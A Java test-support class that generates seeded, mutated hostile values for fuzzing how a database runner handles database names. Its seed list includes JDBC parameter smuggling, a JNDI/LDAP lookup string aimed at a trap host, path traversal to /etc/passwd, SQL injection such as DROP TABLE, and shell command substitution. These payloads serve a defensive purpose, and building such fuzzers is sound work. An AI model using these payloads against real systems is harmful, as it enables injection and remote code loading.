package dev.fleetway.runner.database;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Random;
import java.util.stream.Stream;

/** Endless values that try to be more than a name. The same seed gives the same values. */
final class HostileValues {
  private final Random random;
  private final List<String> seeds;

  /**
   * @param trap a host and port where nobody must ever call
   */
  HostileValues(long seed, String trap) {
    this.random = new Random(seed);
    String canary = "dev.fleetway.runner.database.SmuggledCanary";
    this.seeds =
        List.of(
            "localhost/acme?socketFactory=" + canary + "&y=",
            "acme?socketFactory=" + canary,
            "acme&authenticationPluginClassName=" + canary,
            "acme?sslfactory=" + canary + "&sslmode=require",
            "acme?sslhostnameverifier=" + canary + "&sslpasswordcallback=" + canary,
            "acme?xmlFactoryFactory=" + canary,
            "acme?loggerLevel=TRACE&loggerFile=/tmp/fleetway-canary",
            "acme?queryMode=simple&currentSchema=other&options=-c%20role=postgres",
            "localhost," + trap,
            trap + ",localhost",
            "//" + trap + "/acme",
            "@" + trap,
            trap,
            "jdbc:postgresql://" + trap + "/acme",
            "host=" + trap + " user=postgres",
            "service=x&ldap://" + trap,
            "${jndi:ldap://" + trap + "/a}",
            "[::1]",
            "../../../etc/passwd",
            "..",
            "/etc/passwd",
            "acme\u0000options\u0000-c search_path=other",
            "acme\u0000\u0000",
            "acme\nPGHOST=" + trap,
            "acme\r\n",
            "%00%0a%3fsocketFactory%3d" + canary,
            "'; DROP TABLE canary; --",
            "\"; DROP TABLE canary; --",
            "acme'); SELECT pg_sleep(60); --",
            "$$; DROP TABLE canary; $$",
            "acme\\\"; DROP TABLE canary; --",
            "-c search_path=other",
            "$(touch /tmp/fleetway-canary)",
            "`touch /tmp/fleetway-canary`",
            "\u202eemca",
            "аcme",
            "acme\u00a0",
            "\ud83d\udca3",
            " ",
            "a".repeat(300),
            "x?" + "y=z&".repeat(5_000));
  }

  String next() {
    String value = seeds.get(random.nextInt(seeds.size()));
    for (int mutations = random.nextInt(4); mutations > 0; mutations--) {
      value = mutated(value);
    }
    return value;
  }

  Stream<String> values(int count) {
    return Stream.generate(this::next).limit(count);
  }

  private String mutated(String value) {
    return switch (random.nextInt(6)) {
      case 0 -> value + seeds.get(random.nextInt(seeds.size()));
      case 1 -> seeds.get(random.nextInt(seeds.size())) + value;
      case 2 -> URLEncoder.encode(value, StandardCharsets.UTF_8);
      case 3 -> inserted(value, (char) random.nextInt(0x80));
      case 4 -> inserted(value, "?&=,;:/\\'\"%\n\u0000".charAt(random.nextInt(13)));
      default -> "acme" + value;
    };
  }

  private String inserted(String value, char character) {
    int at =
        value.offsetByCodePoints(0, random.nextInt(value.codePointCount(0, value.length()) + 1));
    return value.substring(0, at) + character + value.substring(at);
  }
}
